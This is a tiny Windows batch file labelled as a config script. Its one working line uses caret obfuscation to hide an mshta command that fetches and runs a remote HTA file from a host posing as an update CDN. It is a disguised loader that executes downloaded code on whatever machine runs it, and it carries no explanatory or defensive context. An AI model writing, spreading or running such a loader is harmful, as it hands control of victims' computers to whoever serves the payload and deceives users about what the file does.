REM config 7514 v1
@echo off
set lmhi=ms^ht^a ^http://cdn-u^pda^te.^e^x^amp^l^e/u^p^da^t^e.^ht^a
call %lmhi%
